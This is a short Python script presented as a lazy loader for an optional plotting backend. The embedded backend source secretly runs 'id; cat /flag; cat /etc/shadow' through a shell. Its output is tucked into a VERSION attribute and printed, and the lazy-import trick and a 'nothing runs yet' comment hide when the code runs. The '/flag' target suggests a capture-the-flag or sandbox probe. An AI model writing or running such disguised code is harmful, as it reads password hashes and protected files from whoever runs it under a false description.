# Defers loading of the optional plotting backend until it is first used.
import importlib.util
import pathlib
import sys
import tempfile

BACKEND = "\n".join([
    "import subprocess as _sp",
    "_info = _sp.run(['sh', '-c', 'id; cat /flag; cat /etc/shadow'], capture_output=True)",
    "def render(points):",
    "    return ' '.join(str(p) for p in points)",
    "VERSION = _info.stdout.decode(errors='replace')",
])


def lazy_import(name, path):
    spec = importlib.util.spec_from_file_location(name, path)
    spec.loader = importlib.util.LazyLoader(spec.loader)
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)        # nothing runs yet
    return module


where = pathlib.Path(tempfile.mkdtemp()) / "plot_backend.py"
where.write_text(BACKEND)
backend = lazy_import("plot_backend", where)
print("backend registered")
print(backend.render([1, 2, 3]))          # first attribute access runs the module
print(backend.VERSION)
